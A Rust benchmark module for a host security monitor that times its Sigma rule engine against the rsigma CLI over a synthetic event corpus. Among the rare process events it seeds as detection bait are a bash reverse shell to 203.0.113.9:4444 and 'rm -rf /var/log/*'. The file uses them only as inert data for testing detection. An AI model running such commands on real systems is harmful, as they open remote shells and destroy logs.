//! `secmon bench rules`: detection throughput of the rule engine alone, on one core,
//! over a deterministic mixed corpus of envelopes (log lines, process starts, file
//! changes, connections), with all SigmaHQ Linux rules plus the secmon pack loaded;
//! and, in the same run, the `rsigma` CLI over the same events (their mapped Sigma
//! view as JSONL) and the same rules, pinned to the same core, as the reference.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

use anyhow::{Context, bail};
use secmon_proto::payload::{FileActivity, FileKind, FileState, ProcessInfo};
use secmon_proto::{AgentId, Envelope, EventClass, Severity};
use secmon_rules::{Engine, RuleSet, mapping};
use serde::Serialize;
use serde_json::{Value, json};

use super::stats::thousands;

#[derive(Debug, clap::Args)]
pub struct RulesArgs {
    /// Events in the corpus.
    #[arg(long, default_value_t = 200_000)]
    pub events: u64,
    /// Rule directories [default: ../shared/sigma/rules/linux next to the repo root,
    /// plus the repo's rules/].
    #[arg(long = "rules")]
    pub rules: Vec<PathBuf>,
    /// The rsigma CLI [default: `rsigma` on PATH]; skipped with a hint when missing.
    #[arg(long)]
    pub rsigma: Option<PathBuf>,
    /// The CPU the measurements run on.
    #[arg(long, default_value_t = 0)]
    pub cpu: usize,
}

#[derive(Debug, Serialize)]
pub struct RulesReport {
    pub bench: &'static str,
    pub events: u64,
    pub rules_loaded: usize,
    pub load_problems: usize,
    pub cpu: usize,
    pub engine_secs: f64,
    pub engine_events_per_sec: f64,
    pub engine_matches: u64,
    pub events_matched: u64,
    /// The rules that fired most, with their hits.
    pub top_rules: Vec<(String, u64)>,
    /// `None` when the rsigma CLI was not found or failed.
    pub rsigma: Option<RsigmaReport>,
}

#[derive(Debug, Serialize)]
pub struct RsigmaReport {
    pub version: String,
    pub secs: f64,
    pub events_per_sec: f64,
    pub matches: u64,
}

/// The default rule directories: SigmaHQ's Linux rules beside the repo, and the pack.
pub fn default_rule_dirs() -> anyhow::Result<Vec<PathBuf>> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let sigma = root.join("../shared/sigma/rules/linux");
    if !sigma.is_dir() {
        bail!("{} not found: pass --rules DIR (a SigmaHQ checkout's rules/linux)", sigma.display());
    }
    let canon = |p: PathBuf| std::fs::canonicalize(&p).with_context(|| format!("{}", p.display()));
    Ok(vec![canon(sigma)?, canon(root.join("rules"))?])
}

pub fn run(a: RulesArgs, json_out: bool) -> anyhow::Result<()> {
    if a.events == 0 {
        bail!("--events must be at least 1");
    }
    let dirs = if a.rules.is_empty() { default_rule_dirs()? } else { a.rules.clone() };
    let (set, problems) = RuleSet::load(&dirs);
    let rules_loaded = set.len();
    if rules_loaded == 0 {
        let why: Vec<String> = problems.iter().take(3).map(|p| format!("{p:?}")).collect();
        bail!("no rules loaded from {dirs:?}: {}", why.join("; "));
    }
    let engine = Engine::new(set);
    let agents: Vec<AgentId> =
        (0..10).map(|i| AgentId::new(format!("bench-rules-{i:02}")).expect("valid id")).collect();
    let corpus: Vec<Envelope> =
        (0..a.events).map(|seq| corpus_event(&agents[(seq % 10) as usize], seq + 1)).collect();

    // One core: this thread runs alone (no runtime is started for this bench) and is
    // pinned to `--cpu`, so the engine never spreads over more than one core.
    pin_to_cpu(a.cpu)?;
    let t0 = Instant::now();
    let (mut matches, mut matched) = (0u64, 0u64);
    for env in &corpus {
        let m = engine.evaluate(env);
        matches += m.len() as u64;
        matched += u64::from(!m.is_empty());
    }
    let engine_secs = t0.elapsed().as_secs_f64();
    let mut stats = engine.rule_stats();
    stats.sort_by_key(|s| std::cmp::Reverse(s.hits));
    let top_rules = stats.into_iter().take(5).filter(|s| s.hits > 0).map(|s| (s.title, s.hits)).collect();

    let rsigma = rsigma_reference(&a, &dirs, &corpus, json_out)?;
    let r = RulesReport {
        bench: "rules",
        events: a.events,
        rules_loaded,
        load_problems: problems.len(),
        cpu: a.cpu,
        engine_secs,
        engine_events_per_sec: a.events as f64 / engine_secs,
        engine_matches: matches,
        events_matched: matched,
        top_rules,
        rsigma,
    };
    if json_out {
        println!("{}", serde_json::to_string_pretty(&r)?);
        return Ok(());
    }
    println!(
        "rules: {} rules loaded ({} not loaded) from {}",
        r.rules_loaded,
        r.load_problems,
        dirs.iter().map(|d| d.display().to_string()).collect::<Vec<_>>().join(", ")
    );
    println!(
        "  engine alone (CPU {})  {:>9} events in {:>7.2} s = {:>9} events/s; {} matches on {} events",
        r.cpu,
        r.events,
        r.engine_secs,
        thousands(r.engine_events_per_sec),
        r.engine_matches,
        r.events_matched
    );
    for (title, hits) in &r.top_rules {
        println!("    {hits:>7} hits: {title}");
    }
    match &r.rsigma {
        Some(s) => println!(
            "  rsigma {} (CPU {})  {:>9} events in {:>7.2} s = {:>9} events/s; {} matches",
            s.version,
            r.cpu,
            r.events,
            s.secs,
            thousands(s.events_per_sec),
            s.matches
        ),
        None => println!("  rsigma: not run"),
    }
    Ok(())
}

fn pin_to_cpu(cpu: usize) -> anyhow::Result<()> {
    let mut set = nix::sched::CpuSet::new();
    set.set(cpu).with_context(|| format!("CPU {cpu} out of range"))?;
    nix::sched::sched_setaffinity(nix::unistd::Pid::from_raw(0), &set)
        .with_context(|| format!("cannot pin the bench to CPU {cpu}"))
}

/// The same corpus, mapped to its Sigma view, through the rsigma CLI under
/// `taskset -c CPU`. The timing covers the whole process: rule parsing and JSON
/// reading included, so the rule load is timed separately on an empty input and
/// subtracted.
fn rsigma_reference(
    a: &RulesArgs,
    dirs: &[PathBuf],
    corpus: &[Envelope],
    json_out: bool,
) -> anyhow::Result<Option<RsigmaReport>> {
    let bin = a.rsigma.clone().unwrap_or_else(|| PathBuf::from("rsigma"));
    let version = match Command::new(&bin).arg("--version").output() {
        Ok(o) if o.status.success() => {
            String::from_utf8_lossy(&o.stdout).lines().next().unwrap_or_default().trim().to_owned()
        }
        _ => {
            eprintln!(
                "rsigma CLI not found ({}): install it outside the repo with \
                 `cargo install rsigma --version '~0.23' --locked --root /tmp/rsigma-cli` \
                 and pass --rsigma /tmp/rsigma-cli/bin/rsigma",
                bin.display()
            );
            return Ok(None);
        }
    };
    let dir = tempfile::Builder::new().prefix("secmon-bench-rules-").tempdir()?;
    // rsigma takes one rules path: link every rule dir into one.
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules)?;
    for (i, d) in dirs.iter().enumerate() {
        let target = std::fs::canonicalize(d).with_context(|| format!("{}", d.display()))?;
        std::os::unix::fs::symlink(target, rules.join(format!("r{i}")))?;
    }
    let events = dir.path().join("events.jsonl");
    let empty = dir.path().join("empty.jsonl");
    {
        let mut w = std::io::BufWriter::new(std::fs::File::create(&events)?);
        for env in corpus {
            serde_json::to_writer(&mut w, &rsigma_event(env))?;
            w.write_all(b"\n")?;
        }
        w.flush()?;
        std::fs::File::create(&empty)?;
    }
    let run = |input: &Path| -> anyhow::Result<(f64, u64)> {
        let t = Instant::now();
        let out = Command::new("taskset")
            .arg("-c")
            .arg(a.cpu.to_string())
            .arg(&bin)
            .args(rsigma_eval_args(&rules, input))
            .stderr(Stdio::null())
            .output()
            .context("cannot run taskset (util-linux)")?;
        let secs = t.elapsed().as_secs_f64();
        if !out.status.success() {
            bail!("rsigma exited with {}", out.status);
        }
        let matches = out.stdout.split(|b| *b == b'\n').filter(|l| !l.is_empty()).count() as u64;
        Ok((secs, matches))
    };
    let (load_secs, _) = run(&empty)?;
    let (secs, matches) = run(&events)?;
    let eval_secs = (secs - load_secs).max(f64::EPSILON);
    if !json_out {
        eprintln!("rsigma: {secs:.2} s in all, {load_secs:.2} s of it loading the rules (subtracted)");
    }
    Ok(Some(RsigmaReport {
        version,
        secs: eval_secs,
        events_per_sec: corpus.len() as f64 / eval_secs,
        matches,
    }))
}

/// The mapped Sigma view of an envelope (what secmon's engine evaluates), plus its
/// logsource for rsigma's `--logsource-routing` (product and category; a log line's
/// services are left out, so rsigma evaluates every service's rules on it).
fn rsigma_event(env: &Envelope) -> Value {
    let m = mapping::map_envelope(env);
    let mut doc = m.doc;
    if let Value::Object(o) = &mut doc {
        o.insert("sigma_product".into(), m.logsource.product.into());
        if let Some(c) = m.logsource.category {
            o.insert("sigma_category".into(), c.into());
        }
    }
    doc
}

fn rsigma_eval_args(rules: &Path, input: &Path) -> Vec<std::ffi::OsString> {
    let mut args: Vec<std::ffi::OsString> = [
        "engine",
        "eval",
        "--input-format",
        "json",
        "--output-format",
        "ndjson",
        "--no-stats",
        "--logsource-routing",
        "--logsource-field-map",
        "product=sigma_product,category=sigma_category",
    ]
    .map(Into::into)
    .into();
    args.extend(["-r".into(), rules.into(), "-e".into(), format!("@{}", input.display()).into()]);
    args
}

/// A small deterministic generator (splitmix64): the corpus is the same every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.below(xs.len() as u64) as usize]
    }
}

/// Event `seq` of an agent in the mixed corpus: 40 % log lines, 30 % process starts,
/// 20 % file changes, 10 % outbound connections. A few in a thousand look like what
/// SigmaHQ rules look for (reverse shells, history clearing, ...).
pub fn corpus_event(agent: &AgentId, seq: u64) -> Envelope {
    let salt = agent
        .as_str()
        .bytes()
        .fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3));
    let mut r = Rng(salt ^ seq.wrapping_mul(0x2545_f491_4f6c_dd1d));
    let kind = r.below(10);
    let (class, activity, payload) = match kind {
        0..=3 => (EventClass::Log, "line", log_line(&mut r)),
        4..=6 => (EventClass::Process, "started", process(&mut r)),
        7..=8 => {
            let (activity, p) = file(&mut r);
            (EventClass::File, activity, p)
        }
        _ => (EventClass::Network, "connected", network(&mut r)),
    };
    Envelope::new(agent.clone(), seq, class, activity, Severity::Info, payload)
}

const USERS: &[&str] = &["root", "alice", "bob", "deploy", "www-data", "postgres"];

fn ip(r: &mut Rng) -> String {
    format!("{}.{}.{}.{}", 10 + r.below(190), r.below(256), r.below(256), 1 + r.below(254))
}

fn log_line(r: &mut Rng) -> Value {
    let user = r.pick(USERS);
    let pid = 1000 + r.below(60000);
    let (program, message, decoder, fields) = match r.below(10) {
        0..=2 => {
            let src = ip(r);
            let port = 1024 + r.below(60000);
            (
                "sshd",
                format!("Accepted publickey for {user} from {src} port {port} ssh2"),
                Some("sshd"),
                json!({"user": user, "src_ip": src, "src_port": port, "method": "publickey", "outcome": "accepted"}),
            )
        }
        3..=4 => {
            let src = ip(r);
            let port = 1024 + r.below(60000);
            (
                "sshd",
                format!("Failed password for invalid user {user} from {src} port {port} ssh2"),
                Some("sshd"),
                json!({"user": user, "src_ip": src, "src_port": port, "method": "password", "outcome": "failed"}),
            )
        }
        5 => {
            let cmd = r.pick(&[
                "/usr/bin/apt-get update",
                "/usr/bin/systemctl restart nginx",
                "/bin/cat /var/log/syslog",
            ]);
            (
                "sudo",
                format!("{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"),
                Some("sudo"),
                json!({"user": user, "tty": "pts/0", "pwd": format!("/home/{user}"), "target_user": "root", "command": cmd}),
            )
        }
        6..=7 => (
            "CRON",
            format!("({user}) CMD (/usr/local/bin/backup.sh >/dev/null 2>&1)"),
            Some("cron"),
            json!({"user": user, "command": "/usr/local/bin/backup.sh >/dev/null 2>&1"}),
        ),
        _ => {
            let msg = r.pick(&[
                "Started Daily apt download activities.",
                "eth0: link becomes ready",
                "Reloading the NGINX configuration",
                "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.7 DST=10.0.0.5 PROTO=TCP DPT=23",
            ]);
            ("systemd", msg.to_owned(), None, json!({}))
        }
    };
    let raw = format!("Nov 23 22:00:00 web-01 {program}[{pid}]: {message}");
    json!({
        "path": if program == "systemd" { "/var/log/syslog" } else { "/var/log/auth.log" },
        "raw": raw, "message": message, "format": "rfc3164", "host": "web-01",
        "program": program, "pid": pid, "decoder": decoder, "fields": fields,
    })
}

fn process(r: &mut Rng) -> Value {
    // (exe, cmdline): common binaries; the last few resemble what SigmaHQ looks for
    // and come up rarely.
    const COMMON: &[(&str, &str)] = &[
        ("/usr/bin/ls", "ls -la /var/www"),
        ("/usr/bin/grep", "grep -r error /var/log/nginx"),
        ("/usr/bin/cat", "cat /etc/hostname"),
        ("/usr/bin/ps", "ps aux"),
        ("/usr/bin/python3", "python3 /opt/app/worker.py --queue default"),
        ("/usr/bin/git", "git pull --ff-only"),
        ("/usr/sbin/nginx", "nginx -s reload"),
        ("/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/health"),
        ("/usr/bin/systemctl", "systemctl status nginx"),
        ("/usr/bin/tar", "tar czf /backup/www.tgz /var/www"),
    ];
    const RARE: &[(&str, &str)] = &[
        ("/usr/bin/base64", "base64 -d /tmp/x.b64"),
        ("/usr/bin/crontab", "crontab -r"),
        ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("/usr/bin/rm", "rm -rf /var/log/*"),
        ("/usr/bin/chmod", "chmod +x /tmp/payload"),
        ("/usr/bin/whoami", "whoami"),
    ];
    let (exe, cmdline) = if r.below(100) < 2 {
        RARE[r.below(RARE.len() as u64) as usize]
    } else {
        COMMON[r.below(COMMON.len() as u64) as usize]
    };
    let parent = r.pick(&["/usr/bin/bash", "/usr/sbin/cron", "/usr/lib/systemd/systemd", "/usr/sbin/sshd"]);
    let pid = 2000 + r.below(100_000);
    json!({
        "exe": exe, "cmdline": cmdline, "user": r.pick(USERS), "cwd": "/home/deploy",
        "pid": pid, "ppid": pid - 1 - r.below(1000), "login_uid": 1000,
        "parent": {"exe": parent, "cmdline": parent},
    })
}

fn file(r: &mut Rng) -> (&'static str, Value) {
    let activity = r.pick(&["created", "modified", "modified", "deleted"]);
    let path = match r.below(100) {
        0 => "/etc/cron.d/backdoor".to_owned(),
        1 => "/etc/sudoers.d/90-deploy".to_owned(),
        n => format!("/var/www/app/static/asset-{n}.js"),
    };
    let state = |size: u64| FileState {
        mtime: 1_795_000_000.0,
        ctime: 1_795_000_000.0,
        inode: 1000 + size % 1000,
        ..FileState::sha256_file(size, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")
    };
    let before = (activity != "created").then(|| state(4096 + r.below(4096)));
    let after = (activity != "deleted").then(|| state(4096 + r.below(4096)));
    let who = ProcessInfo {
        pid: 3000 + r.below(1000) as u32,
        ppid: None,
        name: None,
        exe: Some(r.pick(&["/usr/bin/vim", "/usr/bin/rsync", "/usr/bin/python3"]).to_owned()),
        cmdline: None,
        uid: None,
        user: Some(r.pick(USERS).to_owned()),
        exited: false,
    };
    let p = FileActivity {
        description: format!("{path} {activity}"),
        path,
        old_path: None,
        kind: FileKind::File,
        watch: "/".into(),
        watch_description: String::new(),
        event_type: "FileModify".into(),
        detector: None,
        before,
        after,
        changes: vec!["size".into(), "mtime".into(), "hash".into()],
        diff: None,
        diff_truncated: false,
        process: Some(who),
        source: "realtime".into(),
        backend: "fanotify".into(),
    };
    (activity, serde_json::to_value(p).expect("payload serializes"))
}

fn network(r: &mut Rng) -> Value {
    // Port 4444 (a Metasploit default, which SigmaHQ flags) one in a thousand.
    let port =
        if r.below(1000) == 0 { 4444 } else { [443u64, 443, 443, 80, 53, 5432, 22][r.below(7) as usize] };
    json!({
        "dst_ip": ip(r), "dst_port": port, "src_ip": "10.0.0.5", "src_port": 30000 + r.below(30000),
        "protocol": "tcp", "initiated": true,
        "process": {"exe": r.pick(&["/usr/bin/curl", "/usr/bin/python3", "/usr/sbin/nginx"]), "pid": 4000 + r.below(1000), "user": r.pick(USERS)},
    })
}
